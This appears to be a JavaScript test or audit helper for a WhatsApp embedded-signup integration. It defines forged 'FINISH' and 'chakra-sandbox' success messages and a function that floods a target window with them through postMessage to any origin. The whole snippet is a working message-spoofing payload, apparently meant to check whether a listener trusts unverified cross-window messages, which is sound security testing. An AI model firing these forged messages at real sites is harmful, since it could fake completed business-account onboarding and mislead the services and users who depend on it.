// Forged successes, in every format that such signups use.
const success = { event: "FINISH", type: "WA_EMBEDDED_SIGNUP", version: "3", data: { phone_number_id: "1", waba_id: "1", business_id: "1" } };
var forms = [
  success,
  { ...success, event: "FINISH_ONLY_WABA" },
  { ...success, event: "FINISH_WHATSAPP_BUSINESS_APP_ONBOARDING" },
  JSON.stringify(success),
  { type: "chakra-sandbox:success", data: success },
  { type: "chakra-sandbox:ready" },
  { type: "chakra-sandbox:message", name: "FINISH", data: success },
  { type: "chakra-sandbox:error", message: "forged" },
  { type: "success", status: "connected", connected: true, state: "connected" },
  { state: "connected", numbers: [{ phoneNumberId: "1", displayPhoneNumber: "+1 555 0100" }] },
  { event: "chakra-connected", detail: { verified: true } },
  "cb=f1&code=AQD&state=connected&success=true",
  "FINISH",
  ["FINISH", success],
  true,
  null,
];

/** Posts all forms, `rounds` times. */
var flood = (target, rounds) => {
  for (let round = 0; round < rounds; round++) for (const form of forms) target.postMessage(form, "*");
};
